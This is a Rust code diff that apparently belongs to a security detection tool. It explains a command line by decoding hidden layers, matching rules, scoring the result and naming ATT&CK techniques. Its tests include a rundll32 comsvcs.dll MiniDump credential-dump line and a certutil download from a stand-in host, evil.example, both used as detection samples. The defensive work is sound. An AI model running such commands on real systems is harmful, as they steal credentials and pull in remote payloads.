@@ -1,9 +1,16 @@
 //! The analyst's knowledge about one command line, without an alert.
 
 use aside_shared::analysis::{Layer, Technique, Verdict};
+use aside_shared::text::plain;
 use serde::{Deserialize, Serialize};
 
-use crate::rules::RuleSet;
+use crate::command_line::{
+    Speech, commands, first_word, images, powershell_text, product_of, program, speech,
+};
+use crate::decode;
+use crate::rules::{Rule, RuleSet};
+use crate::score;
+use crate::taxonomy::{Category, Event, Field, Product};
 
 /// What is known about a command line.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
@@ -35,12 +42,167 @@ pub struct Reason {
 
 /// What the rules know about `command_line`, run by `parent` (an image's path or name) where that is known.
 pub fn explain(rules: &RuleSet, command_line: &str, parent: Option<&str>) -> Explanation {
-    let _ = (rules, command_line, parent);
+    let product = product_of(command_line, parent);
+    let layers = decode::layers(command_line);
+    let mut fired: Vec<(&Rule, String)> = Vec::new();
+    let mut see = |event: &Event<'_>| {
+        for rule in rules.matching(event) {
+            if !fired.iter().any(|(known, _)| known.id == rule.id) {
+                fired.push((rule, plain(&rule.knowledge.sentence.about(event))));
+            }
+        }
+    };
+    see(&process(command_line, parent, product, &layers));
+    for text in std::iter::once(command_line).chain(layers.iter().map(|layer| layer.text.as_str()))
+    {
+        let is_layer = !std::ptr::eq(text, command_line);
+        // What a shell would run for it is as good as run: its own process is not in the line.
+        let typed = is_layer || speech(text, first_word(text).0) != Speech::Program;
+        for inner in commands(text, typed) {
+            see(&process(
+                inner.text,
+                inner.runner.as_deref().or(parent),
+                product,
+                &[],
+            ));
+        }
+        if let Some(script) = script(text, is_layer) {
+            let mut event = Event::new(Category::PsScript, product);
+            event.add(Field::SCRIPT_BLOCK_TEXT, script);
+            layers
+                .iter()
+                .for_each(|layer| event.add(Field::SCRIPT_BLOCK_TEXT, layer.text.as_str()));
+            see(&event);
+        }
+    }
+    outcome(fired, layers)
+}
+
+/// PowerShell's own text in a line.
+fn script(text: &str, is_layer: bool) -> Option<&str> {
+    let (word, rest) = first_word(text);
+    match program(word).as_str() {
+        "powershell" | "pwsh" => powershell_text(rest),
+        _ if is_layer || speech(text, word) == Speech::PowerShell => Some(text),
+        _ => None,
+    }
+}
+
+/// The start of a process, as far as its command line tells.
+fn process<'a>(
+    line: &'a str,
+    parent: Option<&'a str>,
+    product: Option<Product>,
+    layers: &'a [Layer],
+) -> Event<'a> {
+    let mut event = Event::new(Category::ProcessCreation, product);
+    for image in images(first_word(line).0, product) {
+        event.add(Field::IMAGE, image);
+    }
+    event.add(Field::COMMAND_LINE, line);
+    for layer in layers {
+        event.add(Field::COMMAND_LINE, layer.text.as_str());
+        event.add(Field::DECODED_FROM, layer.hidden_by.as_str());
+    }
+    if let Some(parent) = parent {
+        for image in images(first_word(parent).0, product) {
+            event.add(Field::PARENT_IMAGE, image.clone());
+            event.add(Field::ANCESTORS, image);
+        }
+    }
+    event
+}
+
+fn outcome(mut fired: Vec<(&Rule, String)>, layers: Vec<Layer>) -> Explanation {
+    fired.sort_by_key(|(rule, _)| std::cmp::Reverse(rule.knowledge.weight.abs()));
+    let score = score::score(
+        fired
+            .iter()
+            .map(|(rule, _)| (rule.knowledge.group.clone(), score::bare(rule)))
+            .collect(),
+    );
+    let mut techniques: Vec<Technique> = Vec::new();
+    for (rule, _) in fired.iter().filter(|(rule, _)| rule.knowledge.weight > 0) {
+        for technique in &rule.knowledge.techniques {
+            if !techniques.contains(technique) {
+                techniques.push(technique.clone());
+            }
+        }
+    }
     Explanation {
-        verdict: Verdict::Unknown,
-        malicious_percent: 24,
-        techniques: Vec::new(),
-        layers: Vec::new(),
-        reasons: Vec::new(),
+        verdict: score::verdict(&score),
+        malicious_percent: score::percent(score.total),
+        techniques,
+        layers,
+        reasons: fired
+            .into_iter()
+            .map(|(rule, sentence)| Reason {
+                rule: rule.id.to_string(),
+                title: rule.title.clone(),
+                points: rule.knowledge.weight,
+                sentence,
+            })
+            .collect(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn verdict(line: &str) -> Verdict {
+        explain(RuleSet::built_in(), line, None).verdict
+    }
+
+    #[test]
+    fn attacks_are_named_and_ordinary_work_is_not_called_malicious() {
+        let dump = explain(
+            RuleSet::built_in(),
+            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\t\a.dmp full",
+            None,
+        );
+        assert_eq!(dump.verdict, Verdict::Malicious);
+        assert!(
+            dump.techniques.iter().any(|it| it.id == "T1003.001"),
+            "{:?}",
+            dump.techniques
+        );
+        let wrapped = explain(
+            RuleSet::built_in(),
+            r#"cmd.exe /c "certutil.exe -urlcache -split -f http://evil.example/a.txt C:\Users\Public\a.txt""#,
+            None,
+        );
+        assert!(
+            wrapped.techniques.iter().any(|it| it.id == "T1105"),
+            "{:?}",
+            wrapped.techniques
+        );
+        for line in [
+            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
+            "git status",
+            "apt-get update",
+            r#""C:\Program Files\Microsoft VS Code\Code.exe" --type=renderer"#,
+            r"powershell.exe -File C:\Scripts\inventory.ps1",
+            "/usr/sbin/logrotate /etc/logrotate.conf",
+        ] {
+            assert_ne!(verdict(line), Verdict::Malicious, "{line}");
+        }
+        assert_eq!(verdict("frobnicate --gently"), Verdict::Unknown);
+    }
+
+    #[test]
+    fn hostile_lines_are_answered_in_bounded_time() {
+        for line in [
+            "",
+            "\"",
+            "^^^^",
+            &"a^".repeat(60_000),
+            &"'+'".repeat(40_000),
+            &"%a%".repeat(40_000),
+            &"(((".repeat(40_000),
+            &"$(".repeat(60_000),
+        ] {
+            let _explained = explain(RuleSet::built_in(), line, Some("\u{202e}\0"));
+        }
     }
 }
